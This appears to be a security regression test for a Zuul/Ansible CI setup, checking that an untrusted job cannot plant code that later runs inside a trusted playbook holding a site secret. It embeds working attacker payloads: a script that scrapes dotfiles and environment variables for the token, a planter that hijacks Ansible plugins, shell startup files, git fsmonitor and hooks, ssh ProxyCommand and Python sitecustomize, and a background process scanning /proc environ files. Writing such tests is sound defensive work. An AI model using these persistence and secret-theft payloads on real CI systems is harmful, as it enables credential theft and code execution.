"""Test that a playbook with more rights finds nothing that an untrusted playbook leaves: real Ansible, a real
secret."""

from __future__ import annotations

from pathlib import Path

from .arena import ATTACKER, Arena

TOKEN = "site-token-5c1f"
SITE = """
- secret: {name: site, data: {token: site-token-5c1f}}
- job:
    name: reported
    abstract: true
    roles: [{zuul: code/lib}]
    pre-run: {name: play/begin.yaml}
    post-run: {name: play/report.yaml}
    secrets: [site]
- job: {name: observed, parent: reported, abstract: true, post-run: play/observe.yaml}
"""
BEGIN = """
- hosts: localhost
  gather_facts: false
  tasks:
    - copy: {content: "{{ site.token }}", dest: "{{ lookup('env', 'HOME') }}/.token", mode: "0600"}
      no_log: true
"""
REPORT = """
- hosts: localhost
  gather_facts: true
  roles: [announce]
  tasks:
    - assert: {that: "lookup('file', lookup('env', 'HOME') ~ '/.token') == site.token", quiet: true}
      no_log: true
    - shell: test -n "$TOKEN" && git -C {{ zuul.executor.work_root }}/{{ zuul.project.src_dir }} status --short
      environment: {TOKEN: "{{ site.token }}"}
      no_log: true
    - debug: {msg: "reported with {{ site | length }} secret by {{ announced }}"}
"""
OBSERVE = """
- hosts: localhost
  gather_facts: false
  roles: [announce]
  tasks: [{debug: {msg: "observed by {{ announced }}"}}]
"""
ROLE = "- set_fact: {announced: %s}\n"
STEALS = '''"""Tells all it can find of the secret, whoever runs this but the attacker's own playbook."""
import glob, os
def said():
    place = os.path.dirname(os.environ.get("ANSIBLE_CONFIG", "/nowhere/x"))
    for file in glob.glob(place + "/*") + glob.glob(os.path.expanduser("~/.*")):
        if os.path.isfile(file):
            yield open(file, errors="replace").read()
    yield str(dict(os.environ))
if os.environ.get("ZUUL_EXECUTION_PHASE") != "run":
    with open(os.environ["ZUUL_LOG_DIR"] + "/stolen-%d" % os.getpid(), "w") as loot:
        loot.write("RAN in %s %s" % (__file__, [text for text in said() if "site-token" in text]))
'''
PLANT = """#!/usr/bin/env python3
import os, pathlib, subprocess, sys
steals = pathlib.Path(os.environ["ZUUL_SRC_ROOT"], os.environ["ZUUL_PROJECT"], "steals").read_text()
build = pathlib.Path(os.environ["ZUUL_SRC_ROOT"]).parents[1]
homes = {pathlib.Path.home(), build / "work/home", build / "work", *build.glob("contexts/*/home"), *build.glob("home")}
kinds = "action become cache callback connection filter inventory lookup modules module_utils netconf shell strategy"
names = "linear free local ssh memory sh sudo yaml ini host_list host_group_vars command copy setup core planted"
def plant(path, text, mode=0o755):
    try:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
        path.chmod(mode)
    except OSError:
        pass
shell = "#!/bin/sh\\npython3 %s\\n"
for home in homes:
    plant(home / "steals.py", steals)
    calls = shell % (home / "steals.py")
    for kind in (*kinds.split(), "terminal", "test", "vars", "doc_fragments", "cliconf", "httpapi"):
        for name in names.split():
            for base in (".ansible/plugins", "plugins"):
                plant(home / base / kind / f"{name}.py", steals)
    for name in ("ansible.cfg", ".ansible.cfg"):
        paths = "".join(f"{k}_plugins = {home}/.ansible/plugins/{k}\\n" for k in ("callback", "vars", "filter"))
        plant(home / name, f"[defaults]\\n{paths}library = {home}/.ansible/plugins/modules\\n", 0o644)
    for name in ("group_vars/all.yaml", "host_vars/localhost.yaml"):
        plant(home / name, "{announced: \\"{{ lookup('pipe', 'sh ~/calls') }}\\"}\\n", 0o644)
    plant(home / "calls", calls)
    for name in (".bashrc", ".profile", ".ssh/rc", ".local/bin/git", ".local/bin/python3", "bin/git", "bin/sh"):
        plant(home / name, calls)
    plant(home / ".ssh/config", f"Host *\\n  ProxyCommand {home}/calls\\n", 0o600)
    plant(home / ".gitconfig", f"[core]\\n fsmonitor = {home}/calls\\n hooksPath = {home}/hooks\\n")
    plant(home / ".netrc", "machine localhost login x password x\\n", 0o600)
    for version in range(9, 15):
        for name in ("usercustomize", "sitecustomize"):
            plant(home / f".local/lib/python3.{version}/site-packages/{name}.py", steals)
    plant(home / ".ansible/collections/ansible_collections/ansible/builtin/plugins/modules/copy.py", steals)
    plant(home / ".ansible/roles/announce/tasks/main.yaml", "- command: python3 ~/steals.py\\n", 0o644)
    for name in ("json", "base64", "zipfile", "ansible", "sitecustomize", "ctypes", "tempfile", "shutil", "runpy"):
        plant(home / f"{name}.py", steals)
for code in build.glob("*trusted/**/*"):
    if code.is_file() and code.suffix in (".yaml", ".py", ".cfg"):
        plant(code, "- hosts: localhost\\n  tasks: [{command: python3 ~/steals.py}]\\n")
git = pathlib.Path(os.environ["ZUUL_SRC_ROOT"], os.environ["ZUUL_PROJECT"], ".git")
with open(git / "config", "a") as config:
    config.write(f"[core]\\n\\tfsmonitor = {git}/calls\\n")
for name in ("calls", "hooks/post-index-change"):
    plant(git / name, shell % (git.parent / "steals"))
(git / "index").unlink()  # git makes it anew and calls its hook
lurks = "import glob,os,time\\nlog=os.environ['ZUUL_LOG_DIR']\\nopen(log+'/lurked','w').write('x')\\n" + (
    "while True:\\n"
    "  for f in glob.glob('%s/**/secrets.yaml' % sys_build, recursive=True) + glob.glob('/proc/*/environ'):\\n"
    "    try:\\n"
    "      text = open(f).read()\\n"
    "      if 'site-token' in text: open(log+'/stolen-by-lurker','w').write(text)\\n"
    "    except OSError: pass\\n"
    "  time.sleep(0.01)\\n"
).replace("sys_build", repr(str(build)))
subprocess.Popen(["setsid", sys.executable, "-c", lurks], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
for path in sorted(build.rglob("*")):
    for word in (".token", "secrets.yaml"):
        if path.name == word:
            print("SEEN", path)
print("planted in", len(homes))
"""
OWN = """
- job: {name: attack, parent: observed, run: plant, roles: [{zuul: code/api}]}
- project: {check: {jobs: [attack]}}
"""


def stolen(arena: Arena, job: str) -> str:
    """Return everything that the newest build of the job left: its log, and stolen data."""
    log = arena.job_log("example", job)
    (build,) = arena.headgate.get(f"/api/tenant/example/builds?complete=true&job_name={job}&limit=1")
    place = arena.headgate.root / "state/logs" / build["uuid"]
    return log + "".join(f"\n== {path.name}\n{path.read_text()}" for path in sorted(place.glob("*stolen*")))


def test_nothing_that_an_untrusted_playbook_leaves_runs_in_a_trusted_one(tmp_path: Path) -> None:
    shadow = {"roles/announce/tasks/main.yaml": ROLE % "attacker"}
    plays = {"play/begin.yaml": BEGIN, "play/report.yaml": REPORT, "play/observe.yaml": OBSERVE}
    library = {"roles/announce/tasks/main.yaml": ROLE % "the library"}
    with Arena(tmp_path, config=SITE, files=shadow, others={"config": plays, "code/lib": library}) as arena:
        commit = arena.propose(ATTACKER, "steal", {"zuul.yaml": OWN, "plant": PLANT, "steals": STEALS})
        note = arena.note_section(ATTACKER, commit, "check")
        loot = stolen(arena, "attack")
        assert "planted in" in loot and "Build succeeded" in note, note + loot
        assert "reported with 1 secret by the library" in loot and "observed by the library" in loot, loot
        assert TOKEN not in loot and "attacker" not in loot and "SEEN" not in loot and "RAN" not in loot, loot
        assert arena.neighbours_land() > 0
